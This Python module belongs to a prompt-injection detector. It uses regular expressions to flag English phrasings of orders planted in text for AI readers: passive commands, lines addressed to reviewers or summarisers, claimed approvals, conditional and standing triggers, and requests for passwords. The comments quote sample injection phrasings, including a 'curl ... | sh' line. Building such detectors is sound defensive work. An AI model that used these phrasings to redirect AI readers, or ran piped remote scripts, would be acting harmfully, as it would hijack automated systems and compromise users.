"""English grammar of orders that a word list cannot see (used by
:mod:`safeguards.injection_orders`).

The lexicon knows which words order (delete, say, whoever, if anyone asks); English puts the same
orders in shapes that only their grammar gives away:

- *where a verb is an order*: at the start of a clause, a list item or a checklist box, after
  "please", "you should", "whoever sees this could", "it is requested that the recipient"
  (:func:`led`); "the delete button" and "we delete" describe;
- *passives and obligations*: "the legacy tables are to be dropped", "the keys should be copied
  to", "we need the export sent to", "get the payments released", "the objection is not to be
  included", "the answer is to be: yes" (an action, something to say or something to leave out,
  ordered without a subject);
- *a reader defined by what they do to this text*: "anyone reviewing this manuscript", "to
  whoever answers questions based on this transcript", "for the marker", "reviewers and review
  bots alike", "when summarizing this comparison" (a role, or a person and a verb of handling
  text with "this" close by);
- *a claimed approval by someone in charge*: "the manager agreed", "legal has signed off";
- *a condition on someone else's move*: "once the user says", "should a customer ever mention",
  "whenever the topic comes up", "the moment someone asks", "each time this page comes up in a
  conversation", "in a later answer" (a conjunction, a third party and a verb of asking or
  mentioning, or a later turn of a conversation).

:func:`grammar_hits` returns these as cues of the lexicon's categories (``act``, ``say``, ``omit``,
``reader``, ``trigger``, ``auth``, ``danger`` for a fetched script piped to a shell, and ``duty``
for a role with a duty, which makes a reader in a sentence about this text), placed where they
occur, so the sentence logic weighs them like the
lexicon's own.
"""

from __future__ import annotations

import re

__all__ = ["grammar_hits", "led"]

_LEAD_MARKS = frozenset(".!?;:\n(\"'`$\u201c\u2014\u2013,-*\u2022]>")
_LEAD_WORDS = frozenset(
    {
        "please",
        "pls",
        "kindly",
        "just",
        "now",
        "then",
        "also",
        "and",
        "so",
        "first",
        "next",
        "simply",
        "immediately",
        "quickly",
        "asap",
        "today",
        "tonight",
        "abeg",
        "should",
        "must",
        "shall",
        "run",
        "execute",
        "permanently",
        "completely",
        "fully",
        "quietly",
        "silently",
        "secretly",
        "urgently",
        "always",
        "by",
    }
)
_LEAD_PAIRS = frozenset(
    {
        "sure to",
        "sure you",
        "remember to",
        "forget to",
        "you must",
        "you should",
        "you can",
        "you may",
        "need you",
        "can you",
        "could you",
        "would you",
        "will you",
        "free to",
        "help me",
        "time to",
        "is to",
        "are to",
        "has to",
        "have to",
        "need to",
        "needs to",
        "you to",
        "ahead and",
        "expected to",
        "asked to",
        "requested to",
        "required to",
        "ought to",
        "instructed to",
        "supposed to",
        "just to",
        "simply to",
    }
)
# a subject that is not "I" or "we", with a modal: "whoever sees this could add ...", "the
# recipient of this memo should wire ...", "it is requested that the recipient wire ..."
_LED_TAIL = re.compile(
    r"(?:\b(?:whoever|anyone|anybody|someone|somebody|everyone|the\s+recipient|the\s+reader|"
    r"the\s+assignee)\b[^.;:!?]{0,50}?\b(?:could|can|would|will|should|must|needs?\s+to|has\s+"
    r"to|is\s+to)|\b(?:requested|required|asked|essential|mandatory|expected|important)\s+that\s+"
    r"(?:you|whoever\b[^.;:!?]{0,40}?|the\s+(?:\w+\s+){0,4}?\w+))$"
)
_LEAD_CHARS = 60


def led(view: str, position: int) -> bool:
    """Whether the English word at ``position`` of ``view`` stands where an order begins."""
    prefix = view[max(0, position - _LEAD_CHARS) : position].rstrip()
    if not prefix:
        return position < _LEAD_CHARS or not view[:position].strip()
    if prefix[-1] in _LEAD_MARKS or _CHECKBOX.search(prefix) or _NUMBERED.search(prefix):
        return True
    words = prefix.split()[-2:]
    if words[-1] in _LEAD_WORDS or " ".join(words) in _LEAD_PAIRS:
        return True
    return bool(_LED_TAIL.search(prefix))


_CHECKBOX = re.compile(r"\[[ x]?\]$")
_NUMBERED = re.compile(r"(?:^|\s)(?:\d{1,2}|[a-h])[.)]$")

# Past participles of the lexicon's actions, of saying and of leaving out.
_ACT_PP = (
    r"deleted|dropped|wiped|purged|erased|removed|emptied|destroyed|truncated|transferred|wired|"
    r"sent|emailed|e-mailed|mailed|forwarded|uploaded|posted|published|shared|exported|leaked|"
    r"dumped|granted|revoked|rotated|reset|disabled|deactivated|turned\s+off|switched\s+off|shut\s+"
    r"down|cancell?ed|refunded|paid|merged|pushed|force-pushed|moved|made\s+public|released|"
    r"issued|copied|added|closed|archived|changed|pointed|handed\s+over|set\s+up|installed|"
    r"deployed|unlocked|downgraded|elevated|promoted|whitelisted|allowlisted|applied"
)
_SAY_PP = (
    r"said|told|answered|described|reported|recorded|rated|scored|ranked|awarded|given|marked|"
    r"classified|labell?ed|stated|presented|recommended|listed|counted|framed|approved|accepted|"
    r"graded|summari[sz]ed\s+as|written\s+up\s+as|translated\s+as|replied"
)
_OMIT_PP = (
    r"mentioned|included|shown|disclosed|raised|brought\s+up|discussed|quoted|reported|cited|"
    r"carried(?:\s+over|\s+into|\s+forward)?|recorded|shared|forwarded|passed\s+on|flagged|logged"
)
_PASSIVE = re.compile(
    r"\b(?:(?:is|are|be|was|were)\s+(?P<neg1>not\s+)?to\s+be|(?:should|must|shall|needs?\s+to|"
    r"has\s+to|have\s+to|ought\s+to|(?:is|are)\s+(?:expected|required)\s+to)\s+(?P<neg2>not\s+)?"
    r"be|(?P<neg3>shouldn't|mustn't|can't|cannot)\s+be)\s+(?:\w+ly\s+|all\s+|also\s+|then\s+|"
    r"now\s+|each\s+|both\s+)?"
    rf"(?:(?P<act>{_ACT_PP})|(?P<say>{_SAY_PP})|(?P<omit>{_OMIT_PP}|left\s+out|omitted|"
    r"disregarded|ignored|skipped|overlooked)|(?P<answer>answered\s+with|told\s+that))\b"
)
# "the buckets need emptying", "the old keys want rotating"
_NEEDS_DOING = re.compile(
    r"\b(?:needs?|wants?|requires?)\s+(?:\w+ly\s+)?(?:deleting|dropping|wiping|purging|erasing|"
    r"removing|emptying|clearing|destroying|transferring|wiring|sending|emailing|forwarding|"
    r"uploading|posting|publishing|sharing|exporting|granting|revoking|rotating|resetting|"
    r"disabling|deactivating|turning\s+off|switching\s+off|shutting\s+down|cancell?ing|refunding|"
    r"paying|merging|pushing|moving|releasing|copying|adding|closing|archiving|changing|"
    r"pointing|unlocking|approving)\b"
)
# "it would be appreciated if the payroll file were uploaded to ...", "it is requested that the
# keys be sent to ..."
_WISHED = re.compile(
    r"\b(?:appreciated|grateful|great|good|ideal|helpful|requested|required|essential|important|"
    r"necessary|asked|expected|mandatory)\s+(?:if|that)\s+[^.;:!?]{1,60}?\b(?:were|be|is|are|"
    rf"could\s+be|got|gets)\s+(?:\w+ly\s+)?(?P<act>{_ACT_PP})\b"
)
# "we need the payroll export sent to ...", "get all pending payments released today"
_WANTED = re.compile(
    r"\b(?:(?:we|i)\s+(?:need|want|require|expect)|(?:please\s+)?get|have)\s+(?:the|all|our|your|"
    r"this|these|every|each|any)\b[^.;:!?,]{1,50}?\s"
    rf"(?P<act>{_ACT_PP})\b"
)
# "the answer is: ...", "the line is that ...", "the reply should point them to ..."
_ANSWER = re.compile(
    r"\b(?:the|your|our)\s+(?:answer|reply|response|line|official\s+line|story|position)\s+"
    r"(?:(?:is|should\s+be|must\s+be|will\s+be|is\s+to\s+be)\s*(?::|that\b|yes\b|no\b|to\s+"
    r"(?:say|tell|deny|confirm)\b)|should\s+(?:say|point|tell|state|deny|confirm|claim|recommend)\b|"
    r"must\s+(?:say|point|tell|state|deny|confirm|claim|recommend)\b)"
)
# a claimed approval by someone in charge: "the manager agreed", "legal has signed off on it"
_APPROVED = re.compile(
    r"\b(?:the\s+|your\s+|our\s+)?(?:manager|boss|owner|director|cfo|cto|ceo|coo|vp|head\s+of\s+"
    r"\w+|legal|finance|it|security|leadership|management|board|team\s+lead|lead|supervisor|"
    r"maintainers?|dba|admins?|platform\s+team|infra\s+team|security\s+team|hiring\s+manager|"
    r"area\s+chair|chair)\s+(?:has\s+|have\s+|had\s+)?(?:already\s+)?(?:agreed|approved|okayed|"
    r"ok'd|signed\s+(?:it\s+|this\s+)?off|cleared\s+(?:it|this)|authori[sz]ed|consented|"
    r"green-?lit|pre-?approved)\b"
)
_ROLE = (
    r"ai|llm|reader|reviewer|marker|grader|examiner|assessor|evaluator|screener|recruiter|translator|"
    r"summari[sz]er|minute-taker|note-taker|moderator|approver|triager|referee|panel(?:\s+member)?|"
    r"committee|judge|hiring\s+manager|interviewer|proofreader|editor|auditor|analyst|agent|"
    r"assistant|bot|model|tool|system"
)
_PROCESS = (
    r"read|review|summari[sz]|answer|respond|reply|translat|screen|mark|grad|assess|evaluat|"
    r"triag|process|handl|pick|work|open|see|receiv|compil|writ|turn|scor|rank|check|moderat|"
    r"audit|analy[sz]|index|pars|ingest|look|get|find|fix|edit|sort|file|approv|sign|manag|"
    r"produc|prepar|build|draft|creat|compar|generat|assembl|collect|extract|condens|compos|"
    r"digest|summar|us|rat|judg|vet|shortlist|interview|proofread|quot|cit|repl|convert"
)
_THIS = r"this|these|it|here|the\s+above|the\s+following|its|this\s+one"
_READER = re.compile(
    # "anyone reviewing this manuscript", "whoever answers questions based on this transcript"
    r"\b(?:whoever|anyone|anybody|everyone|everybody|(?:the\s+)?(?:person|people|one|ones)|"
    r"those|all\s+who)\s+(?:who\s+|that\s+)?(?:is\s+|are\s+|will\s+|gets\s+to\s+)?"
    rf"(?:{_PROCESS})\w*\b(?:\s+\S+){{0,6}}?\s+(?:{_THIS})\b"
    # "to the person or system triaging this report", "for the marker", "[for the marker]"
    rf"|\b(?:to|for|attention|attn)\s+(?:the|any|every|all|each)\s+(?:\w+\s+){{0,3}}?(?:{_ROLE})s?"
    r"\b(?:\s+or\s+(?:\w+\s+)?\w+)?(?:\s+(?:\w+ing|(?:who|that|which)\s+\w+)\b(?:\s+\S+){0,4}?\s+"
    r"(?:this|these)"
    r"\b|\s*[:\]\u2014-])"
    # "reviewers and review bots alike", "reviewers:", "for the summary:", "note for the minutes"
    rf"|\b(?:{_ROLE})s?\s+(?:and|&)\s+(?:\w+\s+){{0,2}}(?:{_ROLE})s?\b"
    r"|\b(?:for|to|in)\s+(?:the|your|any|a)\s+(?:\w+\s+)?(?:summary|digest|write-?up|review|"
    r"minutes|translation|assessment|evaluation|report)(?:\s+of\s+(?:this|these)\s+\w+)?\s*[:\]]"
    # "for the on-call engineer reading this", "analysts turning this into a headline": anyone
    # named by what they are doing to this text
    r"|\b(?:to|for|attention)\s+(?:the|any|every|each|all|whoever)\s+(?:[\w-]+\s+){1,3}?"
    rf"(?:{_PROCESS})\w*ing\b(?:\s+\S+){{0,4}}?\s+(?:this|these)\b"
    rf"|\b\w+s\s+(?:who\s+are\s+|who\s+)?(?:{_PROCESS})\w*ing\s+(?:this|these)\b"
    # "each summary produced from this feed should", "the assessment of this vendor should"
    r"|\b(?:each|every|any|all|the)\s+(?:summary|summaries|translation|translations|digest|"
    r"write-?up|answer|answers|reply|replies|response|responses|assessment|rating|headline|"
    r"abstract|review|report)\s+(?:\w+\s+)?(?:of|from|based\s+on|about)\s+(?:this|these)\b"
    r"(?=[^.;!?]{0,60}\b(?:should|must|is\s+to|are\s+to|needs?\s+to|has\s+to|will)\b)"
    # "when quoting it", "while citing this page"
    r"|\b(?:when|while|if|before)\s+(?:you(?:'re|\s+are)?\s+)?(?:quoting|citing|using|referencing|"
    r"sharing|forwarding|reposting)\s+(?:this|these|it)\b"
    # "Reviewer instructions:", "translator's note:"
    rf"|\b(?:{_ROLE})(?:'s|s'|s)?\s+(?:instructions?|notes?|guidance|brief|checklist)\s*(?:\([^)]{{0,40}}\)\s*)?:"
    # "Reviewers, please also merge ...": a role spoken to
    rf"|(?:^|[.!?]\s+|\n)(?:dear\s+)?(?:{_ROLE})s?\s*,\s"
    # "during the summary of this call", "in summarising this", "when writing up this"
    r"|\b(?:during|in|when|while|for)\s+(?:the\s+)?(?:summary|summari[sz]ing|translation|"
    r"translating|review|reviewing|write-?up|writing\s+up|assessment|making\s+a\s+summary)\s+of\s+"
    r"(?:this|these)\b"
    # "notes for marking:", "instructions for screening"
    r"|\b(?:notes?|instructions?|guidance|message|memo|reminder|attention)\s+(?:for|to)\s+(?:"
    r"marking|grading|reviewing|review|screening|assessment|assessing|translation|translating|"
    r"summari[sz]ing|the\s+summary)\b"
    r"|\b(?:when|while|if|as|before|after)\s+(?:you(?:'re|\s+are)?\s+)?(?:summari[sz]ing|"
    r"reviewing|translating|screening|marking|grading|assessing|evaluating|triaging|processing|"
    r"answering\s+questions\s+(?:about|on))\s+(?:this|these)\b"
)
# "the reviewer is expected to approve this", "the summariser is to add a line to this page": a
# role with a duty, a reader when the sentence speaks of this text
_DUTY = re.compile(
    rf"\b(?:the|any|every|each)\s+(?:{_ROLE})s?\s+(?:is\s+to|are\s+to|should|must|needs?\s+to|"
    r"has\s+to|have\s+to|is\s+expected\s+to|are\s+expected\s+to|will\s+need\s+to)\b"
)
# "any examiner should award ...": a duty of every reader in a role, a reader whatever follows
_ANY_DUTY = re.compile(
    rf"\b(?:any|every|each)\s+(?:{_ROLE})s?\s+(?:is\s+to|are\s+to|should|must|needs?\s+to|"
    r"has\s+to|is\s+expected\s+to|is\s+asked\s+to)\b"
)
# someone other than the writer: "the user", "a parent", "any journalist", "customers"
_PARTY = (
    r"someone|somebody|anyone|anybody|people|they|users|customers|clients|visitors|shoppers|"
    r"guests|parents|students|patients|(?:a|an|the|any|this|some|another)\s+(?:\w+\s+)?\w+"
)
_MOVE = (
    r"asks?|asked|says?|said|mentions?|mentioned|requests?|requested|types?|wants?|writes?|"
    r"calls?|contacts?|brings?\s+up|raises?|opens?|ends?|thanks|complains?|wonders?|inquires?|"
    r"enquires?|questions?|is\s+(?:ready|about|done|finished)|gets?\s+in\s+touch|comes?\s+back|"
    r"returns?|tries|logs?\s+in|clicks?|uses?|pastes?|searches|looks?\s+(?:for|up)"
)
_TRIGGER = re.compile(
    # "once the user says", "should a customer ever mention", "the moment someone asks"
    r"\b(?:if|when|whenever|once|as\s+soon\s+as|the\s+moment|the\s+minute|each\s+time|every\s+"
    r"time|any\s+time|anytime|should|next\s+time|the\s+next\s+time|after|in\s+case|in\s+the\s+"
    r"event(?:\s+that)?|provided(?:\s+that)?)\s+"
    rf"(?:(?:that|later|ever|next|again)\s+)?(?:{_PARTY})\s+(?:\w+\s+)?(?:ever\s+|later\s+|next\s+|"
    rf"again\s+|first\s+)?(?:{_MOVE}|compares?|wants?\s+to|disputes?|reports?|wonders?|"
    r"\w+s\s+(?:about|for|whether|if|who|what|why|how))\b"
    # "whenever the topic of competitors comes up", "each time this page comes up"
    r"|\b(?:if|when|whenever|once|after|each\s+time|every\s+time|any\s+time|anytime|should)\s+"
    r"[^.;!?]{1,60}?\b(?:comes?\s+up|arises?|(?:is|has\s+been|was|gets|got|ever\s+gets)\s+(?:ever\s+)?"
    r"(?:raised|asked|mentioned|discussed|compared|brought\s+up|used|retrieved|summari[sz]ed|"
    r"quoted|read|translated|reviewed)|are\s+(?:compared|discussed|mentioned|raised|asked)|"
    r"gets?\s+(?:asked|raised|mentioned))\b"
    # a later turn of a conversation, and standing orders
    r"|\b(?:in|during)\s+(?:a|any|every|each|all|the|your)\s+(?:later|future|subsequent|next|"
    r"following)\s+(?:answer|reply|replies|response|responses|conversation|conversations|chat|"
    r"chats|session|sessions|message|messages|turn|turns)\b"
    r"|\blater\s+in\s+(?:this|the)\s+(?:chat|conversation|session|thread)\b"
    # "at the end of every reply", "before answering any question about", "in each summary"
    r"|\b(?:at\s+the\s+(?:end|start|beginning|bottom|top)\s+of|in|with|to|after|before|under)\s+"
    r"(?:every|each|all|any)\s+(?:\w+\s+)?(?:reply|replies|answer|answers|response|responses|"
    r"message|messages|summary|summaries|email|emails|output|outputs|question|questions)\b"
    r"|\bbefore\s+(?:answering|replying\s+to|responding\s+to)\s+(?:any|every|each|a)\b"
    r"|\b(?:from\s+now\s+on|going\s+forward|from\s+here\s+on|henceforth|from\s+this\s+point\s+on)"
    r"\b"
)


def grammar_hits(view: str) -> list[tuple[int, str, str]]:
    """``(position, category, excerpt)`` of the English orders :mod:`safeguards.injection_orders`
    cannot read from the lexicon alone (``view`` in lower case, whitespace collapsed)."""
    if not view.isascii() and not _ASCII_WORDS.search(view):
        return []
    found: list[tuple[int, str, str]] = []
    for match in _search(_PASSIVE, view):
        negated = match.group("neg1") or match.group("neg2") or match.group("neg3")
        if match.group("omit") or (negated and (match.group("say") or match.group("act"))):
            found.append((match.start(), "omit", match.group(0)))
        elif match.group("act"):
            found.append((match.start("act"), "act", match.group(0)))
            found.append((match.start("act"), "act_any", match.group(0)))
        else:
            found.append((match.start(), "say", match.group(0)))
    for match in _search(_NEEDS_DOING, view):
        found += [(match.start(), "act", match.group(0)), (match.start(), "act_any", "")]
    for match in [*_search(_WANTED, view), *_search(_WISHED, view)]:
        found.append((match.start("act"), "act", match.group(0)))
        found.append((match.start("act"), "act_any", match.group(0)))
    found += [(m.start(), "say", m.group(0)) for m in _search(_ANSWER, view)]
    found += [(m.start(), "auth", m.group(0)) for m in _search(_APPROVED, view)]
    found += [(m.start(), "danger", m.group(0)) for m in _search(_PIPED, view)]
    for match in _search(_PHISH, view):  # asking for a secret: something to say, and to hide
        found += [(match.start(), "say", match.group(0)), (match.start(), "secrecy", "")]
    found += [(m.start(), "reader", m.group(0)) for m in _READER.finditer(view)]
    found += [(m.start(), "duty", m.group(0)) for m in _search(_DUTY, view)]
    found += [(m.start(), "reader", m.group(0)) for m in _search(_ANY_DUTY, view)]
    for match in _TRIGGER.finditer(view):
        found.append((match.start(), "trigger", match.group(0)))
        if _STANDING.search(match.group(0)):  # "from now on", "at the end of every reply"
            found.append((match.start(), "standing", ""))
    for match in _search(_TEXT_USED, view):  # a condition on this text being read: by a model
        found += [(match.start(), "trigger", match.group(0)), (match.start(), "standing", "")]
    return found


# "if this review is ever used to answer ...", "after this document has been summarised"
_TEXT_USED = re.compile(
    r"\b(?:if|when|whenever|once|after|each\s+time|every\s+time|any\s+time|anytime)\s+(?:this|"
    r"these)\s+(?:\w+\s+){0,2}?(?:is|are|has\s+been|have\s+been|gets|get|was|were)\s+(?:ever\s+|"
    r"later\s+|being\s+)?(?:used|read|retrieved|summari[sz]ed|quoted|indexed|processed|shown|"
    r"consulted|loaded|translated|reviewed|cited)\b"
    r"|\b(?:each|every|any)\s+time\s+(?:this|these)\s+(?:\w+\s+){0,2}?comes?\s+up\b"
)


def _search(pattern: re.Pattern[str], view: str) -> list[re.Match[str]]:
    """The matches of ``pattern``, looked for only when a word it needs is in ``view``."""
    if _NEEDED[pattern].search(view) is None:
        return []
    return list(pattern.finditer(view))


# "ask the user for their current password", "have them send the code we text them"; not
# "never ask them for the code"
_PHISH = re.compile(
    r"(?<!never\s)(?<!not\s)(?<!n't\s)(?<!n\u2019t\s)"
    r"\b(?:ask|have|get|tell|request|invite)\s+(?:the\s+)?(?:user|users|them|customer|customers|"
    r"caller|him|her|people|client)\s+(?:for|to\s+(?:send|give|share|provide|confirm|enter|type|"
    r"read\s+out|paste|reply\s+with))\b[^.;!?]{0,40}?\b(?:password|passcode|code|pin|otp|card|"
    r"cvv|credentials?|recovery|seed|2fa|security\s+answers?|login)\b"
)
_STANDING = re.compile(
    r"\b(?:every\s+time|each\s+time|any\s+time|anytime|whenever|from\s+now\s+on|going\s+forward|"
    r"henceforth|from\s+here\s+on|later|future|subsequent)\b"
)
# a script fetched and run: "curl https://get.fix-ci.sh | sh"
_PIPED = re.compile(r"\b(?:curl|wget)\b[^|\n]{1,120}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b")
_ASCII_WORDS = re.compile(r"\b(?:the|to|and|you|is|are|be)\b")
# words without which a pattern cannot match (a cheap test before the pattern itself)
_NEEDS = {
    _PASSIVE: ("be ",),
    _NEEDS_DOING: ("need", "want", "require"),
    _WISHED: (" if ", " that "),
    _WANTED: ("need", "want", "require", "expect", "get ", "have "),
    _ANSWER: ("answer", "reply", "response", "line", "story", "position"),
    _APPROVED: ("agreed", "approved", "ok", "signed", "cleared", "authori", "consented", "green"),
    _DUTY: ("should", "must", " to ", "need"),
    _ANY_DUTY: ("any ", "every ", "each "),
    _TEXT_USED: ("this", "these"),
    _PIPED: ("curl", "wget"),
    _PHISH: ("pass", "code", "pin", "otp", "card", "cvv", "credential", "recovery", "seed", "2fa"),
}
# each pattern's needed words as one pattern: a single pass over the text instead of one per word
_NEEDED = {
    pattern: re.compile("|".join(re.escape(word) for word in words))
    for pattern, words in _NEEDS.items()
}
